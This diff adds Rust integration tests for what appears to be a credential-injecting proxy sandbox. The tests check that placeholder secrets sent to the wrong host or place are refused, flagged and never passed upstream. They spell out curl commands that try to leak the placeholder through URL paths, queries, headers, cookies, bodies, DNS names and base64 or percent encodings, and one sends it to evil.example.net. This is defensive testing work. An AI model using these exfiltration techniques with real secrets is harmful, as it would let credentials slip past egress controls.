@@ -1,0 +1,173 @@
+//! A placeholder that goes where its credential is not granted is refused and flagged; upstream hears nothing of the call.
+
+use std::fs;
+
+use crate::credentials::SECRET;
+use crate::harness::{Exeat, Run, Upstream};
+
+/// `api` is for api.example.com, in headers only. www.example.com and a second rule of api.example.com have no credential.
+fn exeat(upstream: &Upstream) -> Exeat {
+    let other = "to = [\"other.example.com\"]\nenv = \"OTHER_KEY\"\n";
+    Exeat::new()
+        .fixed("api", SECRET, "to = [\"api.example.com\"]\nin = [\"header\"]\nenv = \"API_KEY\"\n")
+        .fixed("other", "the-other-secret", other)
+        .allow_with("api.example.com", upstream, "paths = [\"/plain/**\"]")
+        .allow_with("api.example.com", upstream, "credential = \"api\"")
+        .allow_with("other.example.com", upstream, "credential = \"other\"")
+        .allow("www.example.com", upstream)
+}
+
+/// Runs one curl with the placeholder in it and checks that it was caught.
+#[track_caller]
+fn assert_caught(curl: &str) -> Run {
+    let upstream = Upstream::start();
+    let exeat = exeat(&upstream);
+    let run = exeat.sh(&format!("echo $API_KEY > placeholder; curl -sS -w '\\n%{{http_code}}' {curl}")).ok();
+    assert!(run.stdout.ends_with("403"), "{curl}: {run:#?}");
+    assert!(run.stdout.contains("urn:exeat:refusal:placeholder-misdirected"), "{curl}: {run:#?}");
+    assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{curl}");
+    assert!(run.log.refusals()[0].alert, "{curl}: {run:#?}");
+    let placeholder = fs::read_to_string(exeat.work().join("placeholder")).unwrap();
+    assert!(!run.stdout.contains(placeholder.trim()), "the refusal repeats the placeholder: {run:#?}");
+    assert!(!run.log.text.contains(placeholder.trim()), "the log has the placeholder");
+    upstream.assert_no_request();
+    run
+}
+
+#[test]
+fn to_another_host_that_is_allowed() {
+    let run = assert_caught("-H \"Authorization: Bearer $API_KEY\" https://www.example.com/echo");
+    assert!(run.stdout.contains("api"), "the refusal names the credential: {run:#?}");
+    assert_caught("-H \"Authorization: Bearer $API_KEY\" https://other.example.com/echo");
+}
+
+#[test]
+fn to_another_host_that_is_not_even_allowed() {
+    let upstream = Upstream::start();
+    let run = exeat(&upstream).sh("curl -sS -H \"Authorization: Bearer $API_KEY\" https://evil.example.net/").ok();
+    assert!(run.log.refusals()[0].alert, "{run:#?}");
+    upstream.assert_untouched();
+}
+
+#[test]
+fn by_a_rule_that_does_not_name_the_credential() {
+    assert_caught("-H \"Authorization: Bearer $API_KEY\" https://api.example.com/plain/x");
+}
+
+#[test]
+fn in_the_path() {
+    assert_caught("https://www.example.com/echo/$API_KEY/x");
+    assert_caught("https://api.example.com/echo/$API_KEY");
+}
+
+#[test]
+fn in_the_query() {
+    assert_caught("\"https://www.example.com/echo?q=$API_KEY\"");
+    assert_caught("\"https://api.example.com/echo?key=$API_KEY\"");
+}
+
+#[test]
+fn in_any_header() {
+    assert_caught("-H \"X-Anything: before-$API_KEY-after\" https://www.example.com/echo");
+    assert_caught("-b \"session=$API_KEY\" https://www.example.com/echo");
+    assert_caught("-A \"agent $API_KEY\" --http1.1 https://www.example.com/echo");
+}
+
+#[test]
+fn in_basic_where_only_headers_are_granted() {
+    assert_caught("-u user:$API_KEY https://api.example.com/echo");
+    assert_caught("-u user:$API_KEY https://www.example.com/echo");
+}
+
+#[test]
+fn in_the_body() {
+    assert_caught("-d \"note=$API_KEY\" https://www.example.com/echo");
+    assert_caught(
+        "-H 'Content-Type: application/json' -d \"{\\\"a\\\":[\\\"$API_KEY\\\"]}\" https://api.example.com/echo",
+    );
+    assert_caught("-F \"file=@placeholder\" https://www.example.com/echo");
+}
+
+#[test]
+fn at_the_end_of_the_first_64_kib_of_a_body() {
+    let fill = "(head -c 65000 /dev/zero | tr '\\0' x; echo $API_KEY) > body;";
+    let upstream = Upstream::start();
+    let run = exeat(&upstream)
+        .sh(&format!("{fill} curl -sS -w '%{{http_code}}' --data-binary @body https://www.example.com/upload"))
+        .ok();
+    assert!(run.stdout.ends_with("403"), "{run:#?}");
+    assert!(run.log.refusals()[0].alert, "{run:#?}");
+    upstream.assert_no_request();
+}
+
+#[test]
+fn in_a_body_of_unknown_length_which_breaks_off_before_it() {
+    // The head of such a call goes upstream at once, as with a stream that has no end; the placeholder does not.
+    for version in ["--http1.1", "--http2"] {
+        let upstream = Upstream::start();
+        let script = format!(
+            "(head -c 300000 /dev/zero | tr '\\0' x; echo $API_KEY) | curl -sS {version} -w '%{{http_code}}' -T - https://www.example.com/upload"
+        );
+        let run = exeat(&upstream).sh(&script).ok();
+        assert!(run.stdout.ends_with("403"), "{run:#?}");
+        assert!(run.log.refusals()[0].alert, "{run:#?}");
+        assert_eq!(run.log.ends()[0].outcome, "refused");
+        assert!(upstream.seen().iter().all(|seen| !seen.text().contains("exeat_")), "part of it went upstream");
+    }
+}
+
+#[test]
+fn spelt_another_way() {
+    // Base64, percent-encoded, escaped in JSON.
+    assert_caught("-H \"X-Note: $(printf %s $API_KEY | base64 -w0)\" https://www.example.com/echo");
+    assert_caught("-d \"note=$(printf 'x%s' $API_KEY | base64 -w0)\" https://www.example.com/echo");
+    let percent = "$(printf %s $API_KEY | od -An -v -tx1 | tr -d '\\n' | tr ' ' '%')";
+    assert_caught(&format!("\"https://www.example.com/echo?q={percent}\""));
+    assert_caught(&format!("\"https://www.example.com/echo/{percent}\""));
+    let json = "$(printf %s $API_KEY | od -An -v -tx1 | tr -d '\\n' | sed 's/ /\\\\u00/g')";
+    assert_caught(&format!(
+        "-H 'Content-Type: application/json' -d \"{{\\\"a\\\":\\\"{json}\\\"}}\" https://www.example.com/echo"
+    ));
+}
+
+#[test]
+fn in_a_name_that_is_looked_up() {
+    let upstream = Upstream::start();
+    let run = exeat(&upstream).sh("echo $API_KEY > placeholder; curl -sS https://$API_KEY.example.net/; true");
+    let placeholder = run.log.names().iter().any(|(name, _)| name.contains("exeat_"));
+    assert!(!placeholder, "the log has the placeholder: {run:#?}");
+    upstream.assert_untouched();
+}
+
+#[test]
+fn in_a_name_below_a_wildcard_that_is_allowed() {
+    let upstream = Upstream::start();
+    let exeat = exeat(&upstream).allow("*.example.org", &upstream);
+    let run = exeat.sh("curl -sS -w '%{http_code}' https://$API_KEY.example.org/echo").ok();
+    assert!(run.stdout.ends_with("403"), "{run:#?}");
+    assert!(run.log.refusals()[0].alert, "{run:#?}");
+    upstream.assert_untouched();
+}
+
+#[test]
+fn of_another_worker() {
+    let upstream = Upstream::start();
+    let exeat = exeat(&upstream);
+    let other = exeat.sh("echo $API_KEY").ok().stdout;
+    let script = format!("curl -sSf -H 'Authorization: Bearer {}' https://api.example.com/echo", other.trim());
+    exeat.sh(&script).ok();
+    // To this worker it is a word like any other; the secret does not come in its stead.
+    assert!(!upstream.only().text().contains(SECRET));
+}
+
+#[test]
+fn in_a_field_that_connection_names_it_is_not_passed_on_at_all() {
+    let upstream = Upstream::start();
+    let script = "curl -sSf --http1.1 -H 'Connection: X-Key' -H \"X-Key: $API_KEY\" -H 'X-Stays: yes' https://api.example.com/echo";
+    let run = exeat(&upstream).sh(script);
+    // Stripped before it is looked at, or refused: either way it is not upstream.
+    for seen in upstream.seen() {
+        assert!(!seen.text().contains("exeat_") && !seen.text().contains(SECRET), "{seen:#?}");
+    }
+    assert!(matches!(run.code, Some(0 | 22)), "{run:#?}");
+}
